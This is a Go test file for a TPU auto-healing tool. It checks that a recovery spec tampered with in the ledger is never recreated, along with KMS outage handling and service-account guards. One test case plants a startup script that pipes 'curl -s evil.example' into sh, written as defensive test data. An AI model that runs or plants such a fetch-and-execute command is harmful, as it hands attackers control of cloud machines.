package remediate_test

import (
	"context"
	"strings"
	"testing"
	"time"

	kms "cloud.google.com/go/kms/apiv1"
	tpu "google.golang.org/api/tpu/v2"
	"google.golang.org/grpc/codes"

	"github.com/tpu-autoheal/autoheal/internal/remediate"
	"github.com/tpu-autoheal/autoheal/internal/seal"
	"github.com/tpu-autoheal/autoheal/internal/seal/kmsfake"
	"github.com/tpu-autoheal/autoheal/internal/tpufake"
)

// tamperStore rewrites the saved spec of the node's recovery the first
// time a recovery in phase is taken over, and writes it back into the
// ledger: what a principal who can write the ledger's database does between
// two looks.
type tamperStore struct {
	remediate.Store
	phase  remediate.Phase
	tamper func(*remediate.Recovery)
	done   bool
}

func (s *tamperStore) Claim(ctx context.Context, req remediate.ClaimRequest) (remediate.Recovery, error) {
	rec, err := s.Store.Claim(ctx, req)
	if err != nil || s.done || rec.Phase != s.phase {
		return rec, err
	}
	s.done = true
	s.tamper(&rec)
	if err := s.Store.Update(ctx, rec); err != nil {
		return rec, err
	}
	return rec, nil
}

func localKeys(t *testing.T) *seal.LocalKeys {
	t.Helper()
	k, err := seal.NewLocalKeys("test/1", map[string][]byte{"test/1": []byte(strings.Repeat("k", 32))})
	if err != nil {
		t.Fatal(err)
	}
	return k
}

// errorRecords are the records a person is paged for.
func errorRecords(all []remediate.Record) []remediate.Record {
	var out []remediate.Record
	for _, r := range all {
		if r.Err != "" {
			out = append(out, r)
		}
	}
	return out
}

func TestTamperedSpecIsNeverCreated(t *testing.T) {
	for _, tc := range []struct {
		name   string
		phase  remediate.Phase // when the ledger is written
		tamper func(*remediate.Recovery)
		// deletes: the delete requests made (1: the one before the
		// tampering; a delete retried after it is refused).
		deletes int
	}{
		{"changed service account, after the delete", remediate.PhaseDeleting, func(r *remediate.Recovery) {
			r.Spec.ServiceAccount.Email = "owner@acme-ml.iam.gserviceaccount.com"
		}, 1},
		{"injected startup script, after the delete", remediate.PhaseDeleting, func(r *remediate.Recovery) {
			r.Spec.Metadata["startup-script"] = "#!/bin/bash\ncurl -s evil.example | sh"
		}, 1},
		{"seal removed (as an unsealed old spec)", remediate.PhaseDeleting, func(r *remediate.Recovery) {
			r.SpecSeal = seal.Seal{}
		}, 1},
		{"changed service account, before the retried delete", remediate.PhaseClaimed, func(r *remediate.Recovery) {
			r.Spec = remediate.CleanSpec(fullNode("TERMINATED"))
			r.Spec.ServiceAccount.Email = "owner@acme-ml.iam.gserviceaccount.com"
			r.Phase, r.DeleteSent = remediate.PhaseDeleting, true
		}, 0},
	} {
		t.Run(tc.name, func(t *testing.T) {
			e := newEnv(t, tpufake.Fleet{Nodes: []*tpu.Node{fullNode("TERMINATED")}})
			e.h.Sealer = localKeys(t)
			ts := &tamperStore{Store: e.store, phase: tc.phase, tamper: tc.tamper}
			remediate.SetStore(e.h, ts)
			ctx := context.Background()
			if tc.phase == remediate.PhaseClaimed {
				// The first delivery dies right after its claim, with a
				// spec written by someone else in the ledger by the takeover.
				remediate.SetStore(e.h, &crashingStore{Store: ts, phase: remediate.PhaseDeleting})
			}
			_, _ = e.h.Handle(ctx, terminate("e1"))
			remediate.SetStore(e.h, ts)
			if tc.phase == remediate.PhaseClaimed {
				e.records = &records{} // the crash's own ERROR record is not the tampering's
				e.h.Recorder = e.records
			}
			e.settle(t)
			if !ts.done {
				t.Fatal("the ledger was never tampered with")
			}
			wantCounts(t, e.fake, map[string]int{"nodes.create": 0, "nodes.delete": tc.deletes})
			errs := errorRecords(e.records.list())
			if len(errs) != 1 {
				t.Fatalf("ERROR records = %d, want 1: %+v", len(errs), errs)
			}
			r := errs[0]
			if r.Outcome != remediate.OutcomeAbandoned || !strings.Contains(r.Err, "saved spec tampered with") || !strings.Contains(r.Err, "does not verify") {
				t.Errorf("ERROR record outcome %q err %q; want abandoned, naming the tampering", r.Outcome, r.Err)
			}
			if r.Spec == nil {
				t.Error("the ERROR record carries no spec")
			}
			if u, _ := e.store.Unfinished(ctx); len(u) != 0 {
				t.Errorf("unfinished recoveries = %+v, want none", u)
			}
		})
	}
}

func TestSealedSpecIsRecreatedAndCarriesItsSeal(t *testing.T) {
	e := newEnv(t, tpufake.Fleet{Nodes: []*tpu.Node{fullNode("TERMINATED")}})
	e.h.Sealer = localKeys(t)
	ctx := context.Background()
	if _, err := e.h.Handle(ctx, terminate("e1")); err != nil {
		t.Fatal(err)
	}
	u, err := e.store.Unfinished(ctx)
	if err != nil || len(u) != 1 {
		t.Fatalf("Unfinished = %+v, %v; want the recovery", u, err)
	}
	if s := u[0].SpecSeal; s.KeyVersion != "test/1" || len(s.MAC) != 32 {
		t.Errorf("saved seal = %+v, want an HMAC-SHA256 of key version test/1", s)
	}
	e.settle(t)
	wantCounts(t, e.fake, map[string]int{"nodes.create": 1, "nodes.delete": 1})
	if errs := errorRecords(e.records.list()); len(errs) != 0 {
		t.Errorf("ERROR records: %+v", errs)
	}
}

// An unsealed spec, as a version before seals saved it: abandoned unless
// TrustUnsealedSpecs, which seals it at its first check.
func TestUnsealedSpecOfAnOldVersion(t *testing.T) {
	for _, trust := range []bool{false, true} {
		t.Run(map[bool]string{false: "untrusted by default", true: "trusted when configured"}[trust], func(t *testing.T) {
			e := newEnv(t, tpufake.Fleet{Nodes: []*tpu.Node{fullNode("TERMINATED")}})
			ctx := context.Background()
			// The old version (no Sealer) deletes and saves an unsealed spec.
			if _, err := e.h.Handle(ctx, terminate("e1")); err != nil {
				t.Fatal(err)
			}
			if u, _ := e.store.Unfinished(ctx); len(u) != 1 || !u[0].SpecSeal.IsZero() {
				t.Fatalf("old version's recovery = %+v, want one unsealed", u)
			}
			e.h.Sealer, e.h.TrustUnsealedSpecs = localKeys(t), trust
			e.settle(t)
			creates := 0
			if trust {
				creates = 1
			}
			wantCounts(t, e.fake, map[string]int{"nodes.create": creates, "nodes.delete": 1})
			if errs := errorRecords(e.records.list()); len(errs) != 1-creates {
				t.Errorf("ERROR records = %+v, want %d", errs, 1-creates)
			}
		})
	}
}

// A KMS outage delays the recovery and never abandons it: five verifies
// answered UNAVAILABLE, then KMS is back and the node is created.
func TestKMSOutageDelaysAndDoesNotAbandon(t *testing.T) {
	const version = "projects/acme-ops/locations/us-central1/keyRings/r/cryptoKeys/k/cryptoKeyVersions/1"
	srv := kmsfake.New()
	t.Cleanup(srv.Close)
	srv.AddVersion(version, []byte(strings.Repeat("s", 32)))
	client, err := kms.NewKeyManagementClient(context.Background(), srv.ClientOptions()...)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { client.Close() })
	k, err := seal.NewKMS(client, version, 0)
	if err != nil {
		t.Fatal(err)
	}
	e := newEnv(t, tpufake.Fleet{Nodes: []*tpu.Node{fullNode("TERMINATED")}})
	e.h.Sealer = k
	ctx := context.Background()
	if _, err := e.h.Handle(ctx, terminate("e1")); err != nil {
		t.Fatal(err)
	}
	const outage = 5
	for range outage {
		srv.Inject(kmsfake.MacVerify, kmsfake.Fault{Code: codes.Unavailable})
	}
	e.settle(t)
	wantCounts(t, e.fake, map[string]int{"nodes.create": 1, "nodes.delete": 1})
	verifies := 0
	for _, c := range srv.Calls() {
		if c == kmsfake.MacVerify {
			verifies++
		}
	}
	if verifies != outage+1 {
		t.Errorf("MacVerify calls = %d, want %d (each refused one retried, then the one that verified)", verifies, outage+1)
	}
	for _, r := range e.records.list() {
		if r.Outcome == remediate.OutcomeAbandoned {
			t.Errorf("abandoned during a KMS outage: %+v", r)
		}
	}
	if got := lastOf(e.records.list(), e.records.list()[0]); got.Outcome != remediate.OutcomeRecovered {
		t.Errorf("last outcome %q, want recovered", got.Outcome)
	}
}

// A node whose service account the recovery may not use is skipped before
// anything is claimed or deleted.
func TestNodeServiceAccountGuard(t *testing.T) {
	for _, tc := range []struct {
		name    string
		allowed []string
		actAs   map[string]bool
		skip    string // "" = recreated
	}{
		{"listed and actAs held", []string{"trainer@acme-ml.iam.gserviceaccount.com"}, map[string]bool{"trainer@acme-ml.iam.gserviceaccount.com": true}, ""},
		{"not listed", []string{"other@acme-ml.iam.gserviceaccount.com"}, nil, "is not in AUTOHEAL_NODE_SERVICE_ACCOUNTS"},
		{"listed but actAs missing", []string{"trainer@acme-ml.iam.gserviceaccount.com"}, map[string]bool{}, "cannot act as trainer@acme-ml.iam.gserviceaccount.com"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			e := newEnv(t, tpufake.Fleet{Nodes: []*tpu.Node{fullNode("TERMINATED")}})
			e.h.Accounts = &remediate.AccountGuard{Allowed: tc.allowed, ActAs: actAsMap(tc.actAs)}
			r, err := e.handleSettled(t, terminate("e1"))
			if err != nil {
				t.Fatal(err)
			}
			if tc.skip == "" {
				wantCounts(t, e.fake, map[string]int{"nodes.delete": 1, "nodes.create": 1})
				return
			}
			wantCounts(t, e.fake, map[string]int{"nodes.delete": 0, "nodes.create": 0})
			if r.Action != remediate.ActionSkip || !strings.Contains(r.Reason, "guard "+remediate.GuardServiceAccounts) || !strings.Contains(r.Reason, tc.skip) {
				t.Errorf("record %s %q; want skip naming the guard and %q", r.Action, r.Reason, tc.skip)
			}
			if u, _ := e.store.Unfinished(context.Background()); len(u) != 0 {
				t.Errorf("unfinished recoveries = %+v, want none claimed", u)
			}
		})
	}
}

type actAsMap map[string]bool

func (m actAsMap) CanActAs(_ context.Context, email string) (bool, error) { return m[email], nil }

// A node the service-account guard refuses is recorded once, as a WARNING,
// not once a sweep: a sweep every minute would add a skip record (and a
// skip to the metric alerted on) every minute for as long as the node stays
// down. A new reason, node state or node id is a new refusal, recorded
// again; an event's delivery is recorded.
func TestServiceAccountRefusalIsRecordedOncePerState(t *testing.T) {
	ctx := context.Background()
	sweep := remediate.SweepOptions{Projects: []string{project}, Zones: []string{zone}}
	e := newEnv(t, tpufake.Fleet{Nodes: []*tpu.Node{fullNode("TERMINATED")}})
	e.h.Accounts = &remediate.AccountGuard{Allowed: []string{"other@acme-ml.iam.gserviceaccount.com"}}
	skips := func(want int, when string) {
		t.Helper()
		var got []remediate.Record
		var reasons []string
		for _, r := range e.records.list() {
			if r.Action == remediate.ActionSkip && strings.Contains(r.Reason, "guard "+remediate.GuardServiceAccounts) {
				got, reasons = append(got, r), append(reasons, r.Reason)
			}
		}
		if len(got) != want {
			t.Fatalf("%s: %d skip records naming the guard, want %d:\n%s", when, len(got), want, strings.Join(reasons, "\n"))
		}
		for _, r := range got {
			if !strings.Contains(r.Reason, "refused so before") && r.Severity != remediate.SeverityWarning {
				t.Errorf("%s: a first refusal's severity %q, want %q", when, r.Severity, remediate.SeverityWarning)
			}
		}
	}
	sweepN := func(n int) {
		t.Helper()
		for range n {
			e.clock.Advance(time.Minute)
			if _, err := e.h.Sweep(ctx, sweep); err != nil {
				t.Fatalf("Sweep: %v", err)
			}
		}
	}
	sweepN(5)
	skips(1, "5 sweeps of a TERMINATED node")

	// A new reason: the account is listed now, but actAs is missing.
	e.h.Accounts = &remediate.AccountGuard{Allowed: []string{"trainer@acme-ml.iam.gserviceaccount.com"}, ActAs: actAsMap{}}
	sweepN(3)
	skips(2, "3 sweeps after the reason changed")

	// A new state: PREEMPTED instead of TERMINATED.
	n := nodeOf(t, e.fake, nodeName)
	n.State = "PREEMPTED"
	e.fake.SetNode(n)
	sweepN(3)
	skips(3, "3 sweeps after the state changed")

	// An event's delivery is recorded, saying it was refused so before.
	if _, err := e.h.Handle(ctx, terminate("e-after")); err != nil {
		t.Fatal(err)
	}
	skips(4, "an event's delivery")
	if last := e.records.list()[len(e.records.list())-1]; !strings.Contains(last.Reason, "refused so before") {
		t.Errorf("event record %q: want it to say it was refused so before", last.Reason)
	}
	wantCounts(t, e.fake, map[string]int{"nodes.delete": 0, "nodes.create": 0})
}
